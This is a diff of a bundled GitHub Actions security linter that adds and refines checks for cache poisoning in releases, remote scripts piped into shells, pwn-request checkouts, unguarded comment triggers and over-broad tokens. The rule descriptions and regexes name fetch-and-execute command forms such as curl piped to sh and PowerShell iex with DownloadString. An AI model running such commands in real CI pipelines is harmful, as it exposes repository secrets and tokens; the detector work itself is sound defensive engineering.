@@ -29718,7 +29718,19 @@ function flowingContexts(expr) {
     case "call":
       return NON_FLOWING_FUNCTIONS.has(expr.name) ? [] : expr.args.flatMap(flowingContexts);
     case "access":
-      return flowingContexts(expr.base);
+      return accessedContexts(expr.base, expr.parts);
+  }
+}
+function accessedContexts(base, parts) {
+  switch (base.kind) {
+    case "context":
+      return [[...base.parts, ...parts]];
+    case "binary":
+      return base.op === "&&" || base.op === "||" ? [...accessedContexts(base.left, parts), ...accessedContexts(base.right, parts)] : [];
+    case "access":
+      return accessedContexts(base.base, [...base.parts, ...parts]);
+    default:
+      return flowingContexts(base);
   }
 }
 function valueLeaves(expr) {
@@ -29734,12 +29746,44 @@ function valueLeaves(expr) {
       const left = expr.op === "&&" && isBooleanish(expr.left) ? [] : valueLeaves(expr.left);
       return left && right ? [...left, ...right] : void 0;
     }
+    case "call":
+      return expr.name === "fromjson" ? jsonLiteralLeaves(expr.args) : void 0;
     default:
       return void 0;
   }
 }
+var MAX_JSON_LITERAL = 4096;
+function jsonLiteralLeaves(args) {
+  const [arg] = args;
+  if (args.length !== 1 || arg?.kind !== "literal" || typeof arg.value !== "string") return void 0;
+  if (arg.value.length > MAX_JSON_LITERAL) return void 0;
+  let value2;
+  try {
+    value2 = JSON.parse(arg.value);
+  } catch {
+    return void 0;
+  }
+  const list = Array.isArray(value2) ? value2 : [value2];
+  return list.every((v) => typeof v === "string") ? list.map((v) => ({ kind: "literal", value: v })) : void 0;
+}
 function isBooleanish(expr) {
   return expr.kind === "not" || expr.kind === "binary" && !["&&", "||"].includes(expr.op) || expr.kind === "call" && NON_FLOWING_FUNCTIONS.has(expr.name);
+}
+function allContexts(expr) {
+  switch (expr.kind) {
+    case "literal":
+      return [];
+    case "context":
+      return [expr.parts];
+    case "not":
+      return allContexts(expr.operand);
+    case "binary":
+      return [...allContexts(expr.left), ...allContexts(expr.right)];
+    case "call":
+      return expr.args.flatMap(allContexts);
+    case "access":
+      return allContexts(expr.base);
+  }
 }
 function calls(expr) {
   switch (expr.kind) {
@@ -30025,8 +30069,16 @@ function isBooleanKey(node) {
 function loadActionFile(path5, text3, parsed, doc2, root) {
   const runs = asMap(get(root, "runs", doc2)?.value, doc2);
   if (!runs) return { kind: "skip" };
-  const using = scalarText(get(runs, "using", doc2)?.value, doc2);
-  if (using?.toLowerCase() !== "composite") return { kind: "skip" };
+  const using = scalarText(get(runs, "using", doc2)?.value, doc2)?.toLowerCase();
+  const inputs = /* @__PURE__ */ new Map();
+  for (const e of entries(asMap(get(root, "inputs", doc2)?.value, doc2), doc2)) inputs.set(e.key.toLowerCase(), "string");
+  if (using === "docker") {
+    const model = { kind: "action", path: path5, text: text3, parsed, doc: doc2, root, triggers: [], jobs: [], inputs };
+    const image = stringValue(get(runs, "image", doc2)?.value, doc2);
+    if (image) model.actionImage = image;
+    return { kind: "model", model };
+  }
+  if (using !== "composite") return { kind: "skip" };
   const stepsEntry = get(runs, "steps", doc2);
   const runsEntry = get(root, "runs", doc2);
   const job = {
@@ -30036,8 +30088,6 @@ function loadActionFile(path5, text3, parsed, doc2, root) {
     composite: true,
     steps: readSteps(stepsEntry, doc2)
   };
-  const inputs = /* @__PURE__ */ new Map();
-  for (const e of entries(asMap(get(root, "inputs", doc2)?.value, doc2), doc2)) inputs.set(e.key.toLowerCase(), "string");
   return {
     kind: "model",
     model: { kind: "action", path: path5, text: text3, parsed, doc: doc2, root, triggers: [], jobs: [job], inputs }
@@ -30166,6 +30216,9 @@ function releaseTrigger(workflow) {
     if (t.name === "push" && t.config) {
       const tags = get(t.config, "tags", workflow.doc);
       if (tags && (asSeq(tags.value, workflow.doc) || tags.value)) return "push of tags";
+      const branches = stringList(get(t.config, "branches", workflow.doc)?.value, workflow.doc);
+      const release = branches.find((b) => /(^|[^a-z])releases?([^a-z]|$)/i.test(b.text) && !b.text.startsWith("!"));
+      if (release) return `push to release branch \`${release.text}\``;
     }
   }
   return void 0;
@@ -30274,7 +30327,7 @@ var rule2 = {
   check: "hardening",
   title: "Release workflow restores a cache",
   severity: "high",
-  description: "Reports steps that restore a GitHub Actions cache in workflows that ship something: triggered by `release` or by a push of tags, or that publish (known publishing actions such as `pypa/gh-action-pypi-publish`, `softprops/action-gh-release`, `goreleaser/goreleaser-action`, `docker/build-push-action` with `push: true`, or scripts running `npm publish`, `twine upload`, `cargo publish`, `docker push`, `gh release create`\u2026).\n\nCache restorers: `actions/cache` (and `actions/cache/restore`), `actions/setup-node|python|java|dotnet` with `cache:`, `actions/setup-go` (v4+ caches by default), `astral-sh/setup-uv` unless `enable-cache: false`, `Swatinem/rust-cache`, `gradle/actions/setup-gradle` unless `cache-disabled: true`, `ruby/setup-ruby` with `bundler-cache: true`, and `docker/build-push-action` with `cache-from: type=gha`.",
+  description: "Reports steps that restore a GitHub Actions cache in workflows that ship something: triggered by `release`, by a push of tags or by a push to a release branch (`release/*`, `release-v2`), or that publish (known publishing actions such as `pypa/gh-action-pypi-publish`, `softprops/action-gh-release`, `goreleaser/goreleaser-action`, `docker/build-push-action` with `push: true`, or scripts running `npm publish`, `twine upload`, `cargo publish`, `docker push`, `gh release create`\u2026).\n\nCache restorers: `actions/cache` (and `actions/cache/restore`), `actions/setup-python|java|dotnet` with `cache:`, `actions/setup-node` with `cache:` or, from v5, by default unless `package-manager-cache: false` (medium: it then caches only when package.json names npm as its `packageManager`), `actions/setup-go` (v4+ caches by default), `astral-sh/setup-uv` unless `enable-cache: false`, `Swatinem/rust-cache`, `gradle/actions/setup-gradle` unless `cache-disabled: true`, `ruby/setup-ruby` with `bundler-cache: true`, `docker/build-push-action` with `cache-from: type=gha`, `PyO3/maturin-action` with `sccache`, `docker/setup-buildx-action` with a `version` (it caches the downloaded binary unless `cache-binary: false`) and `ramsey/composer-install` unless `ignore-cache`. For SHA-pinned actions the version is read from the usual `# vX.Y.Z` comment; an unknown version is taken as the current one.",
   rationale: "Caches are shared between workflows of the repository: a cache entry written by a pull request workflow (or by any code that ran with the cache token, e.g. through an injection bug) can later be restored by the release workflow. Poisoned dependencies or build outputs in that cache end up in the published package or image, signed and attested as if they were built from the tagged source.",
   fix: 'Build releases from a clean state: drop the cache from release jobs, or disable it explicitly:\n\n```yaml\non:\n  push:\n    tags: ["v*"]\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@<sha>\n        with:\n          persist-credentials: false\n      - uses: actions/setup-go@<sha>\n        with:\n          go-version-file: go.mod\n          cache: false          # no cache in the release build\n```',
   references: [
@@ -30315,15 +30368,22 @@ function restoresCache(step, workflow) {
   const input = (name) => withText(step, name, doc2)?.trim().toLowerCase();
   const at = (name) => step.with.get(name)?.value ?? step.uses.node;
   if (usesAction(step, "actions/cache", "swatinem/rust-cache", "mozilla-actions/sccache-action")) return step.uses.node;
-  if (usesAction(step, "actions/setup-node", "actions/setup-python", "actions/setup-java", "actions/setup-dotnet")) {
+  if (usesAction(step, "actions/setup-node")) {
+    const cache3 = input("cache");
+    if (cache3 !== void 0) return FALSY.has(cache3) ? void 0 : at("cache");
+    const major3 = actionMajor(step, workflow);
+    if (major3 !== void 0 && major3 < 5 || input("package-manager-cache") === "false") return void 0;
+    return step.with.has("package-manager-cache") ? at("package-manager-cache") : step.uses.node;
+  }
+  if (usesAction(step, "actions/setup-python", "actions/setup-java", "actions/setup-dotnet")) {
     const cache3 = input("cache");
     return cache3 !== void 0 && !FALSY.has(cache3) ? at("cache") : void 0;
   }
   if (usesAction(step, "actions/setup-go")) {
     const cache3 = input("cache");
-    const major3 = /@v(\d+)/i.exec(step.uses.value)?.[1];
+    const major3 = actionMajor(step, workflow);
     if (cache3 !== void 0) return FALSY.has(cache3) ? void 0 : at("cache");
-    return major3 !== void 0 && Number(major3) < 4 ? void 0 : step.uses.node;
+    return major3 !== void 0 && major3 < 4 ? void 0 : step.uses.node;
   }
   if (usesAction(step, "astral-sh/setup-uv")) return input("enable-cache") === "false" ? void 0 : step.uses.node;
   if (usesAction(step, "gradle/actions", "gradle/gradle-build-action"))
@@ -30331,7 +30391,32 @@ function restoresCache(step, workflow) {
   if (usesAction(step, "ruby/setup-ruby")) return input("bundler-cache") === "true" ? at("bundler-cache") : void 0;
   if (usesAction(step, "docker/build-push-action", "docker/bake-action"))
     return /type=gha/.test(input("cache-from") ?? "") ? at("cache-from") : void 0;
+  if (usesAction(step, "pyo3/maturin-action")) {
+    const sccache = input("sccache");
+    return sccache !== void 0 && !FALSY.has(sccache) ? at("sccache") : void 0;
+  }
+  if (usesAction(step, "docker/setup-buildx-action"))
+    return step.with.has("version") && !FALSY.has(input("cache-binary") ?? "true") ? step.with.has("cache-binary") ? at("cache-binary") : at("version") : void 0;
+  if (usesAction(step, "ramsey/composer-install")) {
+    const ignore = input("ignore-cache");
+    return ignore !== void 0 && !FALSY.has(ignore) ? void 0 : step.uses.node;
+  }
   return void 0;
+}
+function implicitNodeCache(step, workflow) {
+  if (!usesAction(step, "actions/setup-node")) return false;
+  const explicit = withText(step, "package-manager-cache", workflow.doc)?.trim().toLowerCase();
+  return !step.with.has("cache") && (explicit === void 0 || FALSY.has(explicit));
+}
+function actionMajor(step, workflow) {
+  const fromRef = /@v?(\d+)(?:\.\d+)*$/i.exec(step.uses.value.trim())?.[1];
+  if (fromRef !== void 0 && !/@[0-9a-f]{40}$/i.test(step.uses.value.trim())) return Number(fromRef);
+  const end = step.uses.node.range?.[1];
+  if (end === void 0) return void 0;
+  const lineEnd = workflow.text.indexOf("\n", end);
+  const rest = workflow.text.slice(end, lineEnd < 0 ? void 0 : Math.min(lineEnd, end + 200));
+  const fromComment = /#\s*(?:tag=|ratchet:[^@\s]*@)?v?(\d+)(?:\.\d+)*\b/i.exec(rest)?.[1];
+  return fromComment === void 0 ? void 0 : Number(fromComment);
 }
 function run2(workflow) {
   if (workflow.kind !== "workflow") return [];
@@ -30344,9 +30429,11 @@ function run2(workflow) {
     for (const step of job.steps) {
       const node = restoresCache(step, workflow);
       if (!node) continue;
+      const implicit = implicitNodeCache(step, workflow);
       findings.push(
         makeFinding(workflow, rule2, {
-          message: `Step ${step.label} of job ${job.id} restores a cache in a workflow that ${why}: a poisoned cache entry would end up in the release.`,
+          ...implicit ? { severity: "medium" } : {},
+          message: `Step ${step.label} of job ${job.id} restores a cache in a workflow that ${why}${implicit ? " (setup-node v5+ caches automatically when package.json names npm as its `packageManager`)" : ""}: a poisoned cache entry would end up in the release.`,
           span: nodeSpan(workflow, node),
           job,
           key: stepKey(job, step),
@@ -30359,13 +30446,38 @@ function run2(workflow) {
 }
 var cachePoisoning = { rule: rule2, run: run2 };
 
+// src/checks/hardening/github-actions/remote-download.ts
+var PINNED_GITHUB_RAW = /^https:\/\/(?:raw\.githubusercontent\.com\/[^/\s]+\/[^/\s]+\/[0-9a-f]{40}\/|github\.com\/[^/\s]+\/[^/\s]+\/raw\/[0-9a-f]{40}\/)/i;
+var URL2 = /https?:\/\/[^\s"'`)|;&]+/gi;
+function fetchesPinnedContent(text3, index) {
+  const rest = text3.slice(index, index + 2048);
+  const end = rest.search(/[|;)\n]|&&/);
+  const command = end < 0 ? rest : rest.slice(0, end);
+  const urls = command.match(URL2) ?? [];
+  return urls.length > 0 && urls.every((u) => PINNED_GITHUB_RAW.test(u));
+}
+var FETCH_THEN_CHMOD = /\b(curl|wget)\b[^\n]{0,256}?\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rw]*x|0?[0-7]?[1357][0-7]{2})\b/i;
+var VERIFIES = /\b(?:sha(?:1|224|256|384|512)sum|shasum|b2sum|md5sum|gpg|gpgv|cosign|minisign|slsa-verifier)\b|\bopenssl\s+dgst\b/i;
+var DENO_REMOTE = /\bdeno\s+(?:run|install)\s+(?:-\S+\s+)*?(?:-A|--allow-all)\b[^\n]{0,128}?https?:\/\//i;
+function unverifiedRun(text3) {
+  const chmod = FETCH_THEN_CHMOD.exec(text3);
+  if (chmod && !VERIFIES.test(text3) && !fetchesPinnedContent(text3, chmod.index))
+    return { index: chmod.index, tool: chmod[1] };
+  const deno = DENO_REMOTE.exec(text3);
+  if (deno) {
+    const url = text3.indexOf("http", deno.index);
+    if (!fetchesPinnedContent(text3, url)) return { index: deno.index, tool: "deno" };
+  }
+  return void 0;
+}
+
 // src/checks/hardening/github-actions/curl-pipe-shell.ts
 var rule3 = {
   id: "gha/curl-pipe-shell",
   check: "hardening",
   title: "Remote script piped into a shell",
   severity: "medium",
-  description: 'Reports `run:` scripts that download a script and execute it without saving and verifying it: `curl \u2026 | sh` (also `bash`, `zsh`, `sudo sh`, `python`, `node`, `perl`, `ruby`, `pwsh`, `iex`), `wget -O- \u2026 | bash`, `bash <(curl \u2026)`, `sh -c "$(curl \u2026)"`, `source <(curl \u2026)`, `eval "$(curl \u2026)"`, and PowerShell `iex (iwr \u2026)` / `Invoke-Expression (\u2026DownloadString(\u2026))`. Comments are ignored; backslash-continued lines are read as one command.',
+  description: 'Reports `run:` scripts that download a script and execute it without saving and verifying it: `curl \u2026 | sh` (also `bash`, `zsh`, `sudo sh`, `python`, `node`, `perl`, `ruby`, `pwsh`, `iex`), `wget -O- \u2026 | bash`, `bash <(curl \u2026)`, `sh -c "$(curl \u2026)"`, `source <(curl \u2026)`, `eval "$(curl \u2026)"`, and PowerShell `iex (iwr \u2026)` / `Invoke-Expression (\u2026DownloadString(\u2026))`; also a download made executable on the same command line without a checksum or signature check (`curl -o tool \u2026 && chmod +x tool`) and `deno run -A https://\u2026`. Downloads from a GitHub raw URL at a full commit SHA are immutable and not reported. Comments are ignored; backslash-continued lines are read as one command.',
   rationale: "Whatever the server returns at that moment runs with the job's token and secrets. A compromised download host, a hijacked domain, a CDN incident or a malicious maintainer changes every build at once, and nothing in the repository shows it (the Codecov bash uploader compromise of 2021 exfiltrated CI secrets this way for two months). OpenSSF Scorecard counts these as unpinned dependencies.",
   fix: 'Download a fixed version, verify its checksum (or signature), then run it:\n\n```yaml\n- run: |\n    curl -fsSLo install.sh https://example.com/install-1.2.3.sh\n    echo "<sha256>  install.sh" | sha256sum --check --strict\n    bash install.sh\n```\n\nBetter still, use a pinned action or a package from a package manager with a lock file.',
   references: [`${SCORECARD_CHECKS}#pinned-dependencies`, "https://about.codecov.io/security-update/"]
@@ -30377,6 +30489,11 @@ var SUBSTITUTION_RUNNER = /(?:^|[\s;&|(])(?:(?:\/\S*\/)?(?:ba|z|k|da)?sh|source|
 var POWERSHELL_EVAL = /\b(?:iex|Invoke-Expression)\b/i;
 var POWERSHELL_DOWNLOAD = /\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b/i;
 function pipedDownload(text3) {
+  const found = executedDownload(text3);
+  if (found && fetchesPinnedContent(text3, found.index)) return void 0;
+  return found ?? unverifiedRun(text3);
+}
+function executedDownload(text3) {
   for (const m of text3.matchAll(SUBSTITUTED_DOWNLOAD)) {
     const prefix2 = text3.slice(0, m.index);
     const command = prefix2.slice(
@@ -30438,7 +30555,7 @@ var rule4 = {
   check: "hardening",
   title: "Workflow uses a privileged trigger",
   severity: "medium",
-  description: "Reports workflows triggered by `pull_request_target` or `workflow_run` (medium), and at critical severity every job in such a workflow (or one triggered by `issue_comment`) that checks out the pull request's code (`ref: ${{ github.event.pull_request.head.sha }}`, `head.ref`, `github.head_ref`, `refs/pull/<n>/merge`, `github.event.workflow_run.head_sha` / `head_branch`, `gh pr checkout`, `git fetch \u2026 pull/<n>/head`) and then runs anything after it. In `workflow_run` workflows, downloading the triggering run's artifacts (`actions/download-artifact` with `run-id: ${{ github.event.workflow_run.id }}`, `dawidd6/action-download-artifact`) followed by a `run:` step or a local action is reported at high.",
+  description: "Reports workflows triggered by `pull_request_target` or `workflow_run` (medium), and at critical severity every job in such a workflow (or one triggered by `issue_comment`) that checks out the pull request's code (`ref: ${{ github.event.pull_request.head.sha }}`, `head.ref`, `github.head_ref`, `refs/pull/<n>/merge`, any `github.event.workflow_run` data but its base, `gh pr checkout`, `git fetch \u2026 pull/<n>/head`; contexts are compared as GitHub reads them, so `github.event['pull_request'].head.sha` counts too) and then runs anything after it. In `workflow_run` workflows, downloading the triggering run's artifacts (`actions/download-artifact` with `run-id: ${{ github.event.workflow_run.id }}`, `dawidd6/action-download-artifact`) followed by a `run:` step or a local action is reported at high.\n\nJobs of `issue_comment` workflows are reported (medium) unless their job-level `if:` only lets trusted commenters through: `author_association` equal to, or looked up in a literal list of, `OWNER`, `MEMBER` or `COLLABORATOR`, or the actor compared with a fixed login (`CONTRIBUTOR` is anyone with one merged commit); a branch of the condition that only holds for other events (`github.event_name != 'issue_comment'`) counts as guarded. A workflow whose only job has the single step `actions/labeler` is not reported for `pull_request_target`: that is the use the trigger was made for.",
   rationale: 'Unlike `pull_request`, these triggers run in the context of the base repository: with its secrets, a token that can be read-write, and access to the default branch\'s caches, even when a fork opened the pull request. That is only safe while the workflow never executes code from the pull request. Checking out the head and then running a build, a test, `npm install` (lifecycle scripts) or a local action hands all of that to the author of the pull request: this "pwn request" pattern has compromised many popular projects.',
   fix: "Use `pull_request` for anything that builds or tests the contribution; it runs without secrets and with a read-only token for forks. When a privileged follow-up is needed (commenting, labelling), split the work: an unprivileged `pull_request` workflow uploads results as an artifact, and a `workflow_run` workflow consumes them as data without checking out or executing the pull request:\n\n```yaml\non: pull_request            # not pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@<sha>\n        with:\n          persist-credentials: false\n      - run: make test\n```\n\nIf `pull_request_target` is unavoidable (labelers, triage), never check out `github.event.pull_request.head.*`.",
   references: [
@@ -30448,15 +30565,25 @@ var rule4 = {
     GITHUB_HARDENING
   ]
 };
-var PR_HEAD_PATTERNS = [
-  /github\.event\.pull_request\.head\.(sha|ref)\b/i,
-  /github\.head_ref\b/i,
-  /github\.event\.pull_request\.merge_commit_sha\b/i,
-  /github\.event\.workflow_run\.head_(sha|branch)\b/i,
-  /github\.event\.workflow_run\.pull_requests\[\d+\]\.head\./i,
-  /refs\/pull\//i,
-  /github\.event\.pull_request\.head\.repo\.full_name\b/i
-];
+function namesHead(parts) {
+  const path5 = parts.join(".");
+  if (path5 === "github.head_ref" || path5 === "github.event.pull_request.merge_commit_sha") return true;
+  if (path5.startsWith("github.event.pull_request.head")) return true;
+  if (path5 === "github.event.workflow_run" || path5.startsWith("github.event.workflow_run."))
+    return !parts.includes("base") && !["id", "run_number", "run_attempt", "workflow_id"].includes(parts[3] ?? "");
+  return false;
+}
+var PULL_REFS = /refs\/pull\//i;
+function headReference(value2) {
+  for (const fenced of findExpressions(value2)) {
+    const parsed = fenced.closed ? parseExpression(fenced.body) : void 0;
+    if (!parsed?.ok) continue;
+    const hit = allContexts(parsed.expr).find(namesHead);
+    if (hit) return { offset: fenced.start, length: 3, text: pathText(hit) };
+  }
+  const literal2 = PULL_REFS.exec(value2);
+  return literal2 ? { offset: literal2.index, length: literal2[0].length, text: literal2[0] } : void 0;
+}
 var GH_PR_CHECKOUT = /\bgh\s+pr\s+checkout\b/;
 var GIT_FETCH = /\bgit\s+(?:fetch|pull|checkout)\b/;
 var PULL_REF = /\bpull\/(?:\$\{\{[^}]{0,200}\}\}|[^\s/]+)\/(?:head|merge)\b/;
@@ -30471,15 +30598,8 @@ function headCheckout(step, workflow) {
   if (usesAction(step, "actions/checkout")) {
     for (const input of ["ref", "repository"]) {
       const value2 = stringValue(step.with.get(input)?.value, workflow.doc);
-      if (!value2) continue;
-      for (const pattern of PR_HEAD_PATTERNS) {
-        const m = pattern.exec(value2.value);
-        if (m) {
-          const fence = value2.value.lastIndexOf("${{", m.index);
-          const offset = fence >= 0 ? fence : m.index;
-          return { step, value: value2, offset, length: fence >= 0 ? 3 : m[0].length, text: m[0] };
-        }
-      }
+      const hit = value2 ? headReference(value2.value) : void 0;
+      if (value2 && hit) return { step, value: value2, ...hit };
     }
   }
   if (step.run) {
@@ -30496,7 +30616,9 @@ function executesAfter(job, index) {
 function run4(workflow) {
   if (workflow.kind !== "workflow") return [];
   const findings = [];
-  const privileged3 = workflow.triggers.filter((t) => PRIVILEGED_TRIGGERS.includes(t.name));
+  const privileged3 = workflow.triggers.filter(
+    (t) => PRIVILEGED_TRIGGERS.includes(t.name) && !(t.name === "pull_request_target" && onlyLabeler(workflow))
+  );
   for (const trigger of privileged3) {
     findings.push(
       makeFinding(workflow, rule4, {
@@ -30507,6 +30629,7 @@ function run4(workflow) {
       })
     );
   }
+  if (workflow.triggers.some((t) => t.name === "issue_comment")) findings.push(...unguardedCommentJobs(workflow));
   const checkoutTriggers = workflow.triggers.filter(
     (t) => ["pull_request_target", "workflow_run", "issue_comment"].includes(t.name)
   );
@@ -30532,6 +30655,74 @@ function run4(workflow) {
   }
   if (workflow.triggers.some((t) => t.name === "workflow_run")) findings.push(...artifactExecution(workflow));
   return findings;
+}
+function onlyLabeler(workflow) {
+  const [job, ...others] = workflow.jobs;
+  const [step, ...more] = job?.steps ?? [];
+  return others.length === 0 && more.length === 0 && !job?.uses && step !== void 0 && usesAction(step, "actions/labeler");
+}
+var TRUSTED_ASSOCIATIONS = ["OWNER", "MEMBER", "COLLABORATOR"];
+function isGuard(expr) {
+  switch (expr.kind) {
+    case "binary":
+      if (expr.op === "&&") return isGuard(expr.left) || isGuard(expr.right);
+      if (expr.op === "||") return isGuard(expr.left) && isGuard(expr.right);
+      if (expr.op === "!=")
+        return notCommentEvent(expr.left, expr.right, "!=") || notCommentEvent(expr.right, expr.left, "!=");
+      return expr.op === "==" && (guardPair(expr.left, expr.right) || guardPair(expr.right, expr.left) || notCommentEvent(expr.left, expr.right, "==") || notCommentEvent(expr.right, expr.left, "=="));
+    case "call": {
+      if (expr.name !== "contains" || expr.args.length !== 2) return false;
+      const [list, item] = expr.args;
+      return isAssociation(item) && literalTexts(list).every((t) => TRUSTED_ASSOCIATIONS.some((a) => t.includes(a)));
+    }
+    default:
+      return false;
+  }
+}
+function guardPair(context, literal2) {
+  if (literal2.kind !== "literal" || typeof literal2.value !== "string") return false;
+  if (isAssociation(context)) return TRUSTED_ASSOCIATIONS.includes(literal2.value.toUpperCase());
+  if (context.kind !== "context") return false;
+  const path5 = context.parts.join(".");
+  return path5 === "github.actor" || path5 === "github.triggering_actor" || path5 === "github.event.comment.user.login";
+}
+function notCommentEvent(context, literal2, op) {
+  if (context.kind !== "context" || context.parts.join(".") !== "github.event_name") return false;
+  if (literal2.kind !== "literal" || typeof literal2.value !== "string") return false;
+  return literal2.value.toLowerCase() === "issue_comment" === (op === "!=");
+}
+function isAssociation(expr) {
+  return expr.kind === "context" && expr.parts[expr.parts.length - 1] === "author_association";
+}
+function literalTexts(expr) {
+  if (expr.kind === "literal" && typeof expr.value === "string") {
+    const parts = expr.value.split(/[^A-Za-z_]+/).filter((p) => p !== "");
+    return parts.length > 0 ? parts.map((p) => p.toUpperCase()) : [""];
+  }
+  if (expr.kind === "call" && expr.name === "fromjson" && expr.args.length === 1) return literalTexts(expr.args[0]);
+  return [""];
+}
+function jobCondition(job, workflow) {
+  const text3 = scalarText(job.if?.value, workflow.doc)?.trim();
+  if (!text3) return void 0;
+  const body = isWholeExpression(text3) ? findExpressions(text3)[0].body : text3.includes("${{") ? void 0 : text3;
+  const parsed = body === void 0 ? void 0 : parseExpression(body);
+  return parsed?.ok ? parsed.expr : void 0;
+}
+function unguardedCommentJobs(workflow) {
+  return workflow.jobs.flatMap((job) => {
+    const condition = jobCondition(job, workflow);
+    if (condition && isGuard(condition)) return [];
+    return [
+      makeFinding(workflow, rule4, {
+        message: `Job ${job.id} runs on \`issue_comment\` for anyone who comments: its \`if:\` does not check that the commenter is an OWNER, MEMBER or COLLABORATOR.`,
+        span: nodeSpan(workflow, job.keyNode),
+        job,
+        key: `comment-guard:${job.id}`,
+        fix: 'Add a job-level guard, e.g. `if: contains(fromJSON(\'["OWNER","MEMBER","COLLABORATOR"]\'), github.event.comment.author_association)`.'
+      })
+    ];
+  });
 }
 var ARTIFACT_DOWNLOADERS = ["actions/download-artifact", "dawidd6/action-download-artifact"];
 function artifactExecution(workflow) {
@@ -30569,7 +30760,7 @@ var rule5 = {
   check: "hardening",
   title: "Workflow token has more permissions than needed",
   severity: "medium",
-  description: "Checks the `GITHUB_TOKEN` permissions of workflows, following OpenSSF Scorecard's Token-Permissions check: read-only at the top, writes granted per job.\n\n- no top-level `permissions:` while some job has none either (medium): the token then gets the repository or organisation default, which is read-write on older repositories;\n- `permissions: write-all` at the top (high) or on a job (medium);\n- a `write` scope at the top level (medium; every job inherits it);\n- a job-level `write` scope on a job that visibly cannot use the token (low). This heuristic is conservative: a job counts as possibly using the token when any step uses an action other than `actions/checkout`, `actions/setup-*`, `actions/cache`, `actions/upload-artifact` and `actions/download-artifact`, or when any script or input mentions `GITHUB_TOKEN`, `github.token`, `gh `, `git push`, `git tag` or `api.github.com`. Reusable workflow calls are not judged.",
+  description: "Checks the `GITHUB_TOKEN` permissions of workflows, following OpenSSF Scorecard's Token-Permissions check: read-only at the top, writes granted per job.\n\n- no top-level `permissions:` while some job has none either (medium): the token then gets the repository or organisation default, which is read-write on older repositories;\n- `permissions: write-all` at the top (high) or on a job (medium); `read-all` anywhere (low: Scorecard accepts it, but it grants read access to every scope, e.g. private code and security alerts);\n- a `write` scope at the top level (medium; every job inherits it);\n- a job-level `write` scope on a job that visibly cannot use the token (low). This heuristic is conservative: a job counts as possibly using the token when any step uses an action other than `actions/checkout`, `actions/setup-*`, `actions/cache`, `actions/upload-artifact` and `actions/download-artifact`, or when any script or input mentions `GITHUB_TOKEN`, `github.token`, `gh `, `git push`, `git tag` or `api.github.com`. Reusable workflow calls are not judged for this one.\n\nA job calling a reusable workflow counts as a job without permissions: the called workflow receives the caller's token. Workflows triggered only by `workflow_call` are not asked for a top-level block, because they run with their caller's token and can only narrow it.",
   rationale: "Every step of a job, including third-party actions and the dependencies the build downloads, can read the job's token. A compromised dependency or an injection bug with a write token can push commits, move tags, publish releases or approve pull requests; with a read-only token the same bug is contained.",
   fix: 'Set the workflow default to read-only (or nothing) and grant writes only to the job that needs them:\n\n```yaml\npermissions:\n  contents: read\n\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@<sha>\n      - run: make test\n  release:\n    needs: test\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write   # creates the GitHub release\n    steps:\n      - run: gh release create "$GITHUB_REF_NAME"\n        env:\n          GH_TOKEN: ${{ github.token }}\n```',
   references: [
@@ -30606,19 +30797,20 @@ function run5(workflow) {
   if (workflow.kind !== "workflow") return [];
   const findings = [];
   const top = workflow.permissions;
-  if (!top) {
-    const implicit = workflow.jobs.filter((j) => !j.permissions && !j.uses);
+  const calledOnly = workflow.triggers.length > 0 && workflow.triggers.every((t) => t.name === "workflow_call");
+  if (!top && !calledOnly) {
+    const implicit = workflow.jobs.filter((j) => !j.permissions);
     if (implicit.length > 0) {
       findings.push(
         makeFinding(workflow, rule5, {
-          message: `The workflow sets no top-level \`permissions:\`, so job${implicit.length > 1 ? "s" : ""} ${implicit.map((j) => j.id).join(", ")} get the default token permissions, which may be read-write.`,
+          message: `The workflow sets no top-level \`permissions:\`, so job${implicit.length > 1 ? "s" : ""} ${implicit.map((j) => j.id).join(", ")} ${implicit.length > 1 ? "get" : "gets"} the default token permissions, which may be read-write.`,
           span: nodeSpan(workflow, firstKey(workflow)),
           key: "top:missing",
           fix: "Add `permissions: { contents: read }` at the top of the workflow."
         })
       );
     }
-  } else {
+  } else if (top) {
     findings.push(...checkBlock(workflow, top, void 0));
   }
   for (const job of workflow.jobs) {
@@ -30643,6 +30835,18 @@ function checkBlock(workflow, entry, job) {
         ...job ? { job } : {},
         key: `${job ? `job:${job.id}` : "top"}:write-all`,
         fix: "List only the scopes the job needs, e.g. `permissions: { contents: read }`."
+      })
+    ];
+  }
+  if (text3 === "read-all") {
+    return [
+      makeFinding(workflow, rule5, {
+        severity: "low",
+        message: `${where} grants \`permissions: read-all\`: the token can read every scope (private code, packages, security alerts, deployments) whether or not the ${job ? "job" : "workflow"} needs it.`,
+        span: nodeSpan(workflow, entry.value),
+        ...job ? { job } : {},
+        key: `${job ? `job:${job.id}` : "top"}:read-all`,
+        fix: "List only the scopes needed, e.g. `permissions: { contents: read }`."
       })
     ];
   }
@@ -30816,6 +31020,7 @@ function matrixValues(job, key, doc2) {
     out.push({ value: text3, node: scalar });
     return true;
   };
+  const excluded = excludedValues(matrix, lower, doc2);
   for (const e of entries(matrix, doc2)) {
     if (e.key === "include") {
       const list = asSeq(e.value, doc2);
@@ -30827,10 +31032,24 @@ function matrixValues(job, key, doc2) {
     } else if (e.key.toLowerCase() === lower) {
       const list = asSeq(e.value, doc2);
       if (!list) return void 0;
-      for (const item of items(list, doc2)) if (!add(item)) return void 0;
+      for (const item of items(list, doc2)) {
+        if (excluded.has(scalarText(item, doc2) ?? "")) continue;
+        if (!add(item)) return void 0;
+      }
     } else if (e.key !== "exclude" && asScalar(e.value, doc2) && scalarText(e.value, doc2)?.includes("${{")) {
       return void 0;
     }
+  }
+  return out;
+}
+function excludedValues(matrix, key, doc2) {
+  const out = /* @__PURE__ */ new Set();
+  const exclude = entries(matrix, doc2).find((e) => e.key === "exclude");
+  for (const item of items(asSeq(exclude?.value, doc2), doc2)) {
+    const fields = entries(asMap(item, doc2), doc2);
+    const only = fields[0];
+    const text3 = only && fields.length === 1 && only.key.toLowerCase() === key ? scalarText(only.value, doc2) : void 0;
+    if (text3 !== void 0 && !text3.includes("${{")) out.add(text3);
   }
   return out;
 }
@@ -30847,13 +31066,20 @@ function matrixIsStatic(job, parts, doc2) {
     return !dynamic2;
   }
   let dynamic = false;
